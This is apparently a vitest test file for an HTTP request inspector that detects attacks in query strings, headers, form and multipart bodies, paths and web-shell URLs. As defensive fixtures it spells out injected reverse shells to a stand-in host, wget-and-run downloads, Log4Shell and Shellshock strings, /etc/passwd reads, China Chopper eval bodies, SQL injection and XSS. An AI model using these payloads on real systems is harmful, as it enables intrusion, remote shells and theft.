// biome-ignore-all lint/suspicious/noTemplateCurlyInString: look-ups are spelt like that.
import { describe, expect, it } from 'vitest';
import { inspectRequest, type RequestFacts, type RequestSign, splitTarget } from './inspect-request.ts';

const strongest = (request: RequestFacts): RequestSign | undefined => inspectRequest(request)[0];
const shell = 'sh -i >& /dev/tcp/203.0.113.9/3000 0>&1';

describe('inspectRequest tells where the attack is', () => {
  it.each([
    ['as sent', `/dangerzone?id=1&category=${encodeURIComponent(`&&${shell}`)}&x=2`],
    ['as Zeek decodes it', `/dangerzone?id=1&category=&&${shell}&x=2`],
    ['with an assignment behind the separator', `/dangerzone?id=1&category=&&RHOST=203.0.113.9;${shell}`],
    ['with plus for space', '/dangerzone?id=1&category=%26%26export+RHOST%3D%22203.0.113.9%22;sh+-i+>%26+/dev/tcp/$RHOST/3000'],
    ['decoded, with plus for space', '/dangerzone?id=1&category=&&export+RHOST="203.0.113.9";sh+-i+>&+/dev/tcp/$RHOST/3000'],
    ['in an absolute target', `http://web.example:3000/dangerzone?category=;${shell}`],
  ])('parameter and endpoint %s', (_, uri) => {
    expect(strongest({ uri })).toMatchObject({
      family: 'reverse-shell',
      endpoint: '/dangerzone',
      parameter: 'category',
      callback: { kind: 'shell', host: '203.0.113.9', port: 3000 },
    });
  });

  it('in headers, by name', () => {
    expect(strongest({ uri: '/a', user_agent: '${jndi:ldap://203.0.113.9/a}' })).toMatchObject({
      endpoint: '/a',
      parameter: 'header user-agent',
    });
    expect(strongest({ uri: '/a', request_headers: ['X-Api-Version: ${jndi:ldap://203.0.113.9/a}'] })).toMatchObject({
      parameter: 'header x-api-version',
    });
    expect(strongest({ uri: '/a', request_headers: ['Cookie: () { :;}; /bin/bash -c id'] })).toMatchObject({
      parameter: 'header cookie',
      family: 'command',
    });
  });

  it('in forms, in parts of a multipart body, and in other bodies', () => {
    expect(strongest({ uri: '/f', post_body: `a=1&ip=8.8.8.8;${shell}` })).toMatchObject({ parameter: 'ip', place: 'form' });
    const part = `--x Content-Disposition: form-data; name="a" 1 --x Content-Disposition: form-data; name="ip" 8.8.8.8;cat /etc/passwd --x--`;
    expect(strongest({ uri: '/f', post_body: part })).toMatchObject({ parameter: 'ip', family: 'command' });
    expect(strongest({ uri: '/f', post_body: `{"ip":"8.8.8.8;${shell}"}` })).toMatchObject({ place: 'body', family: 'reverse-shell' });
  });

  it('in the path', () => {
    expect(strongest({ uri: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', post_body: 'echo; id' })).toMatchObject({
      strength: 'exploit',
      family: 'traversal',
    });
  });
});

describe('inspectRequest weighs', () => {
  it('commands in a parameter more than in data that programs exchange', () => {
    const command = 'x; wget http://203.0.113.9/a -O /tmp/a; sh /tmp/a';
    expect(strongest({ uri: `/?ip=${encodeURIComponent(command)}` })?.strength).toBe('exploit');
    expect(strongest({ uri: '/jobs', post_body: JSON.stringify({ script: command }) })?.strength).toBe('attack');
  });

  it('commands in an article less than in a field', () => {
    const words = 'this is how you install the program on your own machine when you have never done it before '.repeat(4);
    const post_body = `title=Howto&text=${words.replaceAll(' ', '+')}cd+/tmp;+wget+http://example.net/x.sh;+sh+x.sh`;
    expect(strongest({ uri: '/posts', post_body })?.strength).toBe('attack');
  });

  it('nothing that a referrer repeats', () => {
    expect(inspectRequest({ uri: '/', referrer: "http://a.example/?id=1' union select 1,2,3--" })).toEqual([]);
  });

  it('at most eight signs, the gravest first', () => {
    const uri = `/x?a=${encodeURIComponent("1' union select null,null-- ; <script>alert(1)</script> {{7*7}} ../../../etc/passwd;id;sleep(5) ;wget http://203.0.113.9/a|sh")}`;
    const signs = inspectRequest({ uri });
    expect(signs.length).toBeLessThanOrEqual(8);
    expect(signs[0]?.strength).toBe('exploit');
    expect(signs[0]?.callback).toBeDefined();
  });
});

describe('web shells', () => {
  it.each([
    ['/uploads/x.php?cmd=ls'],
    ['/c99.php?act=f&cmd=cat+/etc/passwd'],
    ['/images/logo.php?c=whoami'],
    ['/shell.jsp?cmd=id'],
    ['/app/run.php?exec=uname+-a'],
    ['/uploads/x.php?cmd=d2hvYW1p'],
  ])('%s is a command for one', (uri) => {
    expect(strongest({ uri })).toMatchObject({ family: 'web-shell', strength: 'exploit' });
  });

  it('show in bodies of China Chopper', () => {
    const post_body = `pass=@eval(base64_decode($_POST[z0]));&z0=${btoa('echo getcwd();')}`;
    expect(inspectRequest({ uri: '/a.php', post_body }).map(({ family }) => family)).toContain('web-shell');
  });

  it('by name alone are a probe', () => expect(strongest({ uri: '/wso2.php' })).toMatchObject({ family: 'web-shell', strength: 'probe' }));

  it('are not what file managers and players do', () => {
    for (const uri of ['/connector.php?cmd=ls', '/player.php?cmd=stop', '/index.php?command=list&c=home', '/api.php?exec=now'])
      expect(inspectRequest({ uri })).toEqual([]);
  });
});

describe('splitTarget', () => {
  it('takes every form of RFC 9112 §3.2', () => {
    expect(splitTarget('/a?b=c?d')).toEqual({ path: '/a', query: 'b=c?d' });
    expect(splitTarget('http://h:80/a?b')).toEqual({ path: '/a', query: 'b' });
    expect(splitTarget('h.example:443')).toEqual({ path: 'h.example:443', query: '' });
    expect(splitTarget('*')).toEqual({ path: '*', query: '' });
  });
});
